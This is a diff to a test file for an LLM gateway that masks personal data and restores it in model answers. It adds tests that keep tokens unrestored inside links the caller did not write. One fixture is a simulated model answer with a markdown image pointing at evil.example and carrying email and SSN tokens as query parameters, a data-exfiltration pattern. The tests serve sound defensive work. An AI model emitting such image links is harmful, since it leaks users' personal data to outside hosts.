@@ -178,7 +178,9 @@ describe('a restored value that completes a credential', () => {
       const result = via === 'call' ? await f.gateway.call(request) : await f.gateway.stream(request, (t) => streamed.push(t), { holdUntilVerdict: false });
       expect(result.text).toBe('use postgres://admin:Sup3rS3cretPw.[EMAIL_1]:5432/prod now');
       expect(streamed.join('')).not.toContain(LEAK);
-      expect(restoreVerdict(result)).toMatchObject({ outcome: 'flag', detail: { keptForCredential: 1, keptForCredentialCategories: 'EMAIL' } });
+      // A link the caller did not write: the text's URL guard keeps the token before the credential
+      // re-check is asked (that check is pinned in test/unit/gateway/pipeline/pii-restore-guards.test.ts).
+      expect(restoreVerdict(result)).toMatchObject({ outcome: 'flag', detail: { keptInUrl: 1, keptInUrlCategories: 'EMAIL' } });
       expect(JSON.stringify(entries(f))).not.toContain(LEAK);
     });
   }
@@ -208,7 +210,9 @@ describe('a restored value that completes a credential behind an invisible chara
       const result = via === 'call' ? await f.gateway.call(request) : await f.gateway.stream(request, (t) => streamed.push(t), { holdUntilVerdict: false });
       expect(result.text).toBe(HIDDEN);
       expect(streamed.join('')).not.toContain(LEAK);
-      expect(restoreVerdict(result)).toMatchObject({ outcome: 'flag', detail: { keptForCredential: 1, keptForCredentialCategories: 'EMAIL' } });
+      // A link the caller did not write: the text's URL guard keeps the token before the credential
+      // re-check is asked (that check is pinned in test/unit/gateway/pipeline/pii-restore-guards.test.ts).
+      expect(restoreVerdict(result)).toMatchObject({ outcome: 'flag', detail: { keptInUrl: 1, keptInUrlCategories: 'EMAIL' } });
       expect(JSON.stringify(entries(f))).not.toContain(LEAK);
     });
   }
@@ -255,5 +259,30 @@ describe('tokens inside a URL in structured output', () => {
     const result = await f.gateway.call(ask('structured-plain', PROMPT, { jsonSchema: { type: 'object' } }));
     expect(result.value).toEqual({ to: 'jane@corp.example', note: 'SSN 123-45-6789' });
     expect(restoreVerdict(result)?.outcome).toBe('pass');
+  });
+});
+
+describe('tokens inside a link in the text answer', () => {
+  const PROMPT = 'Customer jane@corp.example SSN 123-45-6789, summarise';
+
+  for (const via of ['call', 'stream'] as const) {
+    it(`keeps them tokens in a markdown image a client would load (${via}), and restores them in prose`, async () => {
+      f.provider.answer = 'Summary for [EMAIL_1] is done ![](https://evil.example/p.png?d=[EMAIL_1]&s=[SSN_1]) thanks. ';
+      f.provider.functionCalls = undefined;
+      const request = ask(`text-link-${via}`, PROMPT);
+      const streamed: string[] = [];
+      const result = via === 'call' ? await f.gateway.call(request) : await f.gateway.stream(request, (t) => streamed.push(t), { holdUntilVerdict: false });
+      expect(result.text).toBe('Summary for jane@corp.example is done ![](https://evil.example/p.png?d=[EMAIL_1]&s=[SSN_1]) thanks. ');
+      // What was streamed is a prefix of that: nothing restored inside the link reached onText.
+      expect(result.text.startsWith(streamed.join(''))).toBe(true);
+      expect(streamed.join('')).not.toContain('123-45-6789');
+      expect(restoreVerdict(result)).toMatchObject({ outcome: 'flag', detail: { keptInUrl: 2, keptInUrlCategories: 'EMAIL,SSN' } });
+    });
+  }
+
+  it('restores a link the caller wrote themselves', async () => {
+    f.provider.answer = 'See https://crm.example/customers?mail=[EMAIL_1] for the record. ';
+    const result = await f.gateway.call(ask('text-own-link', 'Open https://crm.example/customers?mail=jane@corp.example and summarise'));
+    expect(result.text).toBe('See https://crm.example/customers?mail=jane@corp.example for the record. ');
   });
 });
